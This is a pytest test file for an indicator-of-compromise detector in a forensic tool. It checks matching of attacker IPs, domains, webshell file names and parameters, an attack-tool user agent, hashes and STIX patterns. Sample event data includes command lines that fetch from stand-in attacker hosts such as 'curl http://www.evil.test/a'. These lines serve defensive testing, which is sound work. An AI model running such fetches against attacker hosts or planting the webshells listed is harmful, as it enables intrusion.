"""Indicators: exact values only, and never worth more than they are."""

from __future__ import annotations

import json
import pickle
import re
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest

from exhume.detectors.ioc import Ioc, feeds
from exhume.detectors.ioc.indicator import Indicator
from exhume.detectors.ioc.literals import in_events, instead, literal
from exhume.model import Finding, Host, Pack, PackFile, Record, Source, searched
from exhume.packs import load

LIST = """\
type,value,campaign,cluster,first_seen,source
ip,203.0.113.9,demo,,,r
ip,198.51.100.0/24,demo,,,r
ip,2001:db8::9,demo,,,r
domain,evil.test,demo,,,r
filename,OutlookEN.aspx,demo,,,r
url_path,/owa/auth/zntwv.aspx,demo,,,r
path,C:\\ProgramData\\it.zip,demo,,,r
user_agent,antSword/v2.1,demo,,,r
webshell_parameter,orangenb,demo,,,r
sha256,{a},demo,,,r
""".replace("{a}", "a" * 64)


def ioc(tmp_path: Path, text: str = LIST, name: str = "a.csv") -> Ioc:
    (tmp_path / name).write_text(text)
    return Ioc.from_packs([Pack("demo", "1", "demo", "0", own=True, files=(PackFile(tmp_path / name, "ioc", name),))], Host())


def found(detector: Ioc, kind: str, **fields: str) -> list[tuple[str, str]]:
    record = Record(kind, None, {k.replace("__", "-"): v for k, v in fields.items()}, Source("e", "f", "line 1"))
    return [(f.rule.split(":")[1], str(f.outcome)) for f in detector.detect(record) if isinstance(f, Finding)]


@pytest.mark.parametrize(
    ("value", "hit"),
    [
        ("203.0.113.9", True), ("203.0.113.99", False), ("1203.0.113.9", False), ("10.0.0.1 203.0.113.9", True), ("10.0.0.1,+203.0.113.9", True),
        ("::ffff:203.0.113.9", True),
        ("198.51.100.77", True), ("2001:DB8:0:0:0:0:0:9", True), ("203.0.113.9:443", True), ("fe80::1%3", False),
    ],
)  # fmt: skip
def test_addresses_are_compared_as_addresses(tmp_path: Path, value: str, hit: bool) -> None:
    assert found(ioc(tmp_path), "iis.access", c__ip=value) == ([("ip", "probe")] if hit else [])


def test_each_type_is_worth_what_the_table_says(tmp_path: Path) -> None:
    detector = ioc(tmp_path)
    assert found(detector, "iis.access", url="/owa/auth/outlooken.aspx", sc__status="404") == [("filename", "probe")]
    assert found(detector, "iis.access", url="/owa/auth/outlooken.aspx", sc__status="200") == [("filename", "attempt")]
    assert found(detector, "iis.access", url="/owa/auth/zntwv.aspx?x=1", sc__status="302") == [("url_path", "probe")]
    assert found(detector, "file.entry", windows_path="D:\\ProgramData\\it.zip") == [("path", "step")]
    assert found(detector, "web.file", sha256="A" * 64) == [("sha256", "write")]
    shell = {"url": "/a/x.aspx?orangenb=1", "sc__status": "200"}
    assert found(detector, "iis.access", cs__method="POST", **shell) == [("webshell_parameter", "step")]
    assert found(detector, "iis.access", cs__method="GET", **shell) == [("webshell_parameter", "attempt")]
    assert found(detector, "windows.event", CommandLine="curl http://www.evil.test/a") == [("domain", "probe")]
    assert found(detector, "windows.event", CommandLine="curl http://notevil.test/a") == []


def test_ordinary_crawlers_and_empty_files_are_refused_with_the_reason(tmp_path: Path) -> None:
    text = "type,value\nuser_agent,Googlebot/2.1+(+http://www.googlebot.com/bot.html)\nip,127.0.0.1\nfilename,w3wp.exe\nmd5,d41d8cd98f00b204e9800998ecf8427e\n"
    detector = ioc(tmp_path, text)
    assert len(detector.problems) == 4
    assert detector.wants == frozenset()


def test_stix_patterns(tmp_path: Path) -> None:
    pattern = "[ipv4-addr:value = '203.0.113.9'] OR [file:hashes.'SHA-256' = '" + "b" * 64 + "' AND file:name = 'x.exe']"
    text = '{"type": "bundle", "objects": [{"type": "indicator", "id": "indicator--1", "pattern": "%s"}, {"type": "indicator", "id": "indicator--2", "pattern": "[file:name LIKE \'x\']"}]}'
    detector = ioc(tmp_path, text % pattern, "a.json")
    assert found(detector, "iis.access", c__ip="203.0.113.9") == [("ip", "probe")]
    assert found(detector, "file.entry", sha256="b" * 64) == [("sha256", "write")]
    assert [p.reason.split(":")[0] for p in detector.problems] == ["indicator--2"]


def test_literals_stand_in_the_lines_and_survive_pickling(tmp_path: Path) -> None:
    detector = pickle.loads(pickle.dumps(ioc(tmp_path)))
    literals = searched(detector.clues("iis.access"))
    assert literals is not None
    assert {"203.0.113.9", "198.51.100.", "outlooken.aspx", "orangenb", "evil.test"} <= literals
    assert detector.clues("file.entry") is None


@pytest.mark.parametrize(
    "word", ["A" * 200_000, "a-" * 100_000 + "._", "a." * 100_000 + "-"], ids=["letters", "dashes", "dots"]
)
def test_long_words_of_a_script_are_read_once_and_hide_nothing(tmp_path: Path, word: str) -> None:
    detector, start = ioc(tmp_path), time.process_time()
    hits = found(detector, "windows.event", ScriptBlockText=f"curl evil.test; x {word} y; curl 203.0.113.9")
    assert hits == [("domain", "probe"), ("ip", "probe")]
    assert time.process_time() - start < 2


def test_a_text_is_found_in_each_field_of_an_event_that_holds_it(tmp_path: Path) -> None:
    detector = ioc(tmp_path, "type,value\nstring,Some Unusual Text\n")
    assert found(detector, "windows.event", A="x some unusual TEXT y", B="dull") == [("string", "step")]
    assert found(detector, "windows.event", A="x some unusual", B="text y") == []


def test_what_was_read_before_is_not_read_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    odd = json.dumps(
        {"Event": {"info": "\ud800", "Attribute": [{"type": "ip-dst", "value": "192.0.2.7", "comment": "\udfff"}]}}
    )
    (tmp_path / "feed.json").write_text(odd)
    (tmp_path / "list.csv").write_text("type,value\nip,192.0.2.8\nip,nonsense\ndomain,evil.example\n")
    pack = load(tmp_path)
    store: dict[tuple[bytes, ...], bytes] = {}

    def kept(parts: Sequence[bytes], make: Callable[[], bytes]) -> bytes:
        key = tuple(parts)
        if key not in store:
            store[key] = make()
        return store[key]

    first = Ioc.from_packs([pack], Host(), kept)
    monkeypatch.setattr(feeds, "indicators", lambda *_: pytest.fail("a feed was read again"))
    again = Ioc.from_packs([pack], Host(), kept)
    assert again.problems == first.problems != ()
    assert again.wants == first.wants
    for one in (first, again, pickle.loads(pickle.dumps(again))):
        hits = [found(one, "iis.access", c__ip=f"192.0.2.{last}") for last in (7, 8, 9)]
        assert hits == [[("ip", "probe")], [("ip", "probe")], []]
        assert one.clues("iis.access") == first.clues("iis.access")


@pytest.mark.parametrize(
    "value", ["::ffff:cb00:7109", "::FFFF:CB00:7109", "0:0:0:0:0:ffff:cb00:7109", "::ffff:c633:644d", "[::ffff:c633:644d]:443"]
)
def test_an_address_in_hexadecimal_letters_passes_the_sieve(tmp_path: Path, value: str) -> None:
    detector = ioc(tmp_path)
    assert found(detector, "iis.access", c__ip=value) == [("ip", "probe")]
    assert any(text in value.lower() for text in searched(detector.clues("iis.access") or ()))


@pytest.mark.parametrize(
    ("network", "literals"),
    [
        ("10.0.0.5", ("ffff:a00:5", "ffff:0a00:0005")), ("198.51.0.0/16", ("ffff:c633:",)), ("198.51.100.0/24", ("ffff:c633:",)),
        ("198.0.0.0/9", ("ffff:",)), ("2001:db8::1", ()),
    ],
)  # fmt: skip
def test_what_stands_in_hexadecimal_letters(network: str, literals: tuple[str, ...]) -> None:
    one = Indicator("ip", network, "demo", own=True)
    assert instead(one) == literals


def test_a_path_of_common_words_is_looked_for_as_a_path() -> None:
    """In whatever way an event writes what stands between its parts; each word alone stands in many events."""
    one = Indicator("path", "\\programdata\\com\\", "demo", own=True)
    found = literal(one)
    assert found == "programdata"
    pattern = re.compile(in_events(one, found))
    written = [
        json.dumps(text).lower() for text in ("C:\\ProgramData\\COM\\a", "c:/programdata//com", "x\\programdata/com\\\\b")
    ]
    written += ["c:\\u005cprogramdata\\u005ccom", "<data>\\programdata\\com</data>"]
    assert [text for text in written if not pattern.search(text)] == []
    assert not pattern.search('"c:\\\\programdata\\\\x.exe","computer":"ex01"')
    rare = Indicator("path", "\\programdata\\komar65.dll", "demo", own=True)
    assert in_events(rare, literal(rare) or "") == ""
